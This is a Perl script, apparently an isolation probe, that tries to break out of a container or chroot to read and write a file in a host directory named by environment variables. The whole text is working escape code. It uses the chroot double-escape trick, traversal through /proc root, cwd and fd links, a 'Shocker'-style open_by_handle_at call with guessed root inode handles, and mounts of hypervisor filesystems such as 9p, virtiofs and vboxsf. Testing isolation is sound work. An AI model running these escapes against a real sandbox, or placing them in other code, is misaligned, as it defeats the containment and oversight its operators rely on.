# The host's directory $TARGET, which has a file "file", by every way out of the guest's root.
my $target = $ENV{TARGET};
my $mark = $ENV{MARK};

sub try {
	my ($base) = @_;
	if (open(my $f, "<", "$base$target/file")) { print <$f>, " through $base\n" }
	if (open(my $f, ">", "$base$target/$mark")) { print $f "x" }
}

# Out of a new root, with the working directory outside of it.
if (!(my $pid = fork)) {
	mkdir "/tmp/c";
	chdir "/";
	chroot "/tmp/c";
	chdir ".." for 1 .. 64;
	chroot ".";
	try("");
	exit;
} else {
	waitpid $pid, 0;
}
for my $base (glob("/proc/[0-9]*/root"), glob("/proc/[0-9]*/cwd"), glob("/proc/[0-9]*/fd/*"), "", "/data", "/tmp", "/run") {
	try($base . "/.." x $_) for 0, 8;
}
# By the number of the root's inode on the file system (open_by_handle_at), as "Shocker" did: 2 on ext4, 128 on XFS.
for my $at ("/", "/data", "/tare-agent", "/etc/hosts", "/etc/hostname", "/etc/resolv.conf", "/usr", "/usr/bin/env", glob "/run/*") {
	my $d;
	open($d, "<", $at) or sysopen($d, $at, 0200000) or next;
	for my $type (1, 0x81) {
		my $handle = pack("IiII", 8, $type, $type == 1 ? (2, 0) : (128, 0));
		my $fd = syscall(304, fileno($d), $handle, 0);
		try("/proc/self/fd/$fd") if $fd >= 0;
	}
}
# By file systems that hypervisors offer.
mkdir "/tmp/h";
for my $fs ("hostfs", "hppfs", "virtiofs", "9p", "vboxsf") {
	for my $option ("/", "../../../../../../../../../..", ".", $target) {
		next if system("mount -t $fs -o '$option' none /tmp/h 2>/dev/null");
		try("/tmp/h");
		try("/tmp/h" . "/.." x 8);
		if (open(my $f, "<", "/tmp/h/file")) { print <$f> }
		open(my $f, ">", "/tmp/h/$mark");
		system("umount /tmp/h");
	}
}
exit 0;
